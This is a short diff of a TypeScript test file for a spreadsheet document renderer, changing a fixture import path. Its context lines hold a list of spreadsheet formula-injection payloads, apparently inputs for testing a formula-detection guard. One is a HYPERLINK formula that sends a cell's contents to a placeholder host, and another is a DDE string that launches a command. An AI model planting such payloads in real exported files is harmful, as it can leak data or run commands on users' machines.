@@ -14,7 +14,7 @@ import { loadActor } from '../../src/app/auth/sessions';
 import { units, users } from '../../src/db/schema';
 import { renderAreaList, renderYearTables } from '../../src/documents';
 import { looksLikeFormula } from '../../src/documents/xlsx/formula';
-import { recognisedAreas, yearReportModel } from '../../src/documents/samples/laichau-2024';
+import { recognisedAreas, yearReportModel } from '../fixtures/laichau-2024';
 import { demoServer } from '../support/server';
 
 const HOSTILE = ['=HYPERLINK("http://example.invalid/?x="&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)', '\t=1+1', '\r=1+1'];
